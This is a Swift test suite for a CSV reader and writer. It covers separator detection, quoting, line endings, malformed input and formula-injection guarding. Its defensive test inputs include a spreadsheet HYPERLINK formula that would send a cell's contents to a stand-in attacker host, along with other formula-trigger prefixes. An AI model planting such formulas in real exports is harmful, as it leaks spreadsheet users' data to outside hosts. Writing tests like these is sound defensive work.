import TestSupport
import Testing

@testable import FileFormats

@Suite("CSV")
struct CSVTests {
    private func text(_ records: [[String]]) -> String {
        var output: [UInt8] = []
        for record in records { CSVWriter.append(record, to: &output) }
        return String(decoding: output, as: UTF8.self)
    }

    private static func records(_ bytes: [UInt8]) throws(FileFormatError) -> [[String]] {
        var reader = CSVRecords(bytes)
        var records: [[String]] = []
        while let record = try reader.next() { records.append(record.fields) }
        return records
    }

    @Test(
        "The separator of a table is detected by its first line",
        arguments: [
            ("a,b;c;d\n", ","), ("a;b;c\nd,e,f\n", ";"), ("a;b\n", ","), ("a\tb\tc", "\t"), ("a\tb;c;d\r\n", ";"),
            ("\"a,b\";c;d\n", ";"), ("\"a;b;c;d\"\n", ","), ("a\n;;;\n", ","), ("", ","), ("\u{FEFF}a;b;c", ";"),
            ("\"x \"\"y,\"\"\";b;c", ";"),
        ] as [(String, Unicode.Scalar)])
    func separators(table: String, separator: Unicode.Scalar) throws {
        let found = CSVRecords.separator(of: table.utf8)
        #expect(found == UInt8(ascii: separator))
    }

    @Test("A table with semicolons has commas in its fields, and quotation marks as others have")
    func semicolons() throws {
        var records = CSVRecords(Array("a;b;c\r\n1,5;\"x;\"\"y\"\"\nz\";\r\n".utf8), separator: UInt8(ascii: ";"))
        #expect(try records.next()?.fields == ["a", "b", "c"])
        #expect(try records.next()?.fields == ["1,5", "x;\"y\"\nz", ""])
        #expect(try records.next() == nil)
    }

    @Test(
        "Fields are quoted only if they contain a separator, a quotation mark or a line break",
        arguments: [
            (["a", "", "b c"], "a,,b c\r\n"), (["a,b"], "\"a,b\"\r\n"), (["say \"x\""], "\"say \"\"x\"\"\"\r\n"),
            (["a\nb", "c\rd"], "\"a\nb\",\"c\rd\"\r\n"), ([], "\r\n"),
        ])
    func quoting(record: [String], expected: String) {
        #expect(text([record]) == expected)
    }

    @Test(
        "No field is a formula for a spreadsheet, and each is read back unchanged",
        arguments: [
            "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
            "＝1", "＋1", "－1", "＠x", "-", "'=1", "''=1", "'tis", "''", "'", "a=1", "", "０", "é", "1-1",
            "=\u{301}1", "'\u{301}", "\u{FF}", "﹢1", "\u{EF}\u{BC}",
        ])
    func formulas(field: String) throws {
        let output = Array(text([["a", field]]).utf8)
        let read = try #require(try Self.records(output).first?.last)
        #expect(read.unicodeScalars.first.map { !"=+-@\t\r\n＝＋－＠".unicodeScalars.contains($0) } ?? true)
        #expect(Array(FormulaGuard.removed(from: read).utf8) == Array(field.utf8))
    }

    @Test("A table contains nothing that a terminal obeys or hides", arguments: HostileText.texts)
    func hostile(text: String) {
        var writer = BookmarksWriter()
        var bookmarks = writer.opening(title: text)
        writer.beginFolder(text, in: &bookmarks)
        writer.append(Bookmark(url: "https://a/", title: text, tags: [text], note: text), to: &bookmarks)
        for output in [Array(self.text([[text], ["\"" + text]]).utf8), bookmarks + writer.closing()] {
            #expect(HostileText.problems(in: output, keeping: HostileText.isKeptInTables) == [])
            #expect(String(decoding: output, as: UTF8.self).contains(HostileText.canary))
        }
    }

    @Test(
        "Characters of languages and flags stay in a table",
        arguments: [
            "\u{E20}\u{200B}\u{E32}", "\u{908A}\u{E0101}", "\u{2764}\u{FE0F}",
            "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", "\u{1F469}\u{200D}\u{1F467}",
        ])
    func languages(field: String) throws {
        let read = try Self.records(Array(text([[field, "\"" + field]]).utf8))
        #expect(read.map { $0.map { Array($0.utf8) } } == [[Array(field.utf8), Array(("\"" + field).utf8)]])
    }

    @Test("Only the apostrophe of a guard is removed", arguments: ["'tis", "'", "''", "'a=1", "x'=1"])
    func apostrophes(field: String) {
        #expect(FormulaGuard.removed(from: field) == field)
    }

    @Test(
        "Records are read with either line ending and with a byte order mark",
        arguments: [
            ("a,b\rc,d\r", [["a", "b"], ["c", "d"]]), ("a,\"b\rc\"\r\rd", [["a", "b\rc"], [""], ["d"]]),
            ("a,b\r\nc,d\r\n", [["a", "b"], ["c", "d"]]), ("a,b\nc,d", [["a", "b"], ["c", "d"]]),
            ("\u{FEFF}\"x, \"\"y\"\"\nz\",\n", [["x, \"y\"\nz", ""]]), ("a \" mark,b", [["a \" mark", "b"]]),
            ("\n\n", [[""], [""]]), ("", []), ("a,", [["a", ""]]), ("\"a\"b,c", [["ab", "c"]]), ("\"\"", [[""]]),
        ])
    func reading(text: String, expected: [[String]]) throws {
        #expect(try Self.records(Array(text.utf8)) == expected)
    }

    @Test("A byte that is not UTF-8 damages only its own field")
    func encoding() throws {
        #expect(try Self.records([0x61, 0xE2, 0x82, 0x2C, 0x62]) == [["a\u{FFFD}", "b"]])
    }

    @Test("A table that ends within quotation marks is refused", arguments: ["a,\"b", "\"", "a,\"he said \"\"yes\"\""])
    func truncated(text: String) {
        #expect(throws: FileFormatError.unclosedQuotationMark(line: 1)) { try Self.records(Array(text.utf8)) }
    }

    @Test("A quotation mark that is never closed damages only its own record")
    func unclosed() throws {
        var records = CSVRecords(Array("a,b\n1,\"x\n2,y\n\n3,\"z\"\n4,\"\n5,v".utf8))
        var read: [[String]] = []
        var damaged: [Int] = []
        while true {
            do throws(FileFormatError) {
                guard let record = try records.next() else { break }
                read.append(record.fields)
            } catch {
                if case .unclosedQuotationMark(let line) = error { damaged.append(line) }
            }
        }
        // The first mark closes at the next one, so the records between them are one with wrong fields.
        #expect(read.first == ["a", "b"] && read.last == ["5", "v"])
        #expect(damaged == [6])
    }

    @Test("A table of unclosed marks is read once", .timeLimit(.minutes(5)), arguments: ["x\"y,\"z\n", "\"\n"])
    func unclosedSize(line: String) {
        var records = CSVRecords(Array(repeatElement(Array(line.utf8), count: (1 << 20) / line.utf8.count).joined()))
        var count = 0
        while true {
            do throws(FileFormatError) { if try records.next() == nil { break } } catch { count += 1 }
        }
        #expect(count <= 2)
    }

    @Test("Time grows with the size only", .timeLimit(.minutes(5)), arguments: [",", "\n", "\"\"", "\"a\",", "a"])
    func size(piece: String) throws {
        let text = Array(repeatElement(Array(piece.utf8), count: (1 << 20) / piece.utf8.count).joined())
        #expect(throws: Never.self) { try Self.records(text) }
    }
}
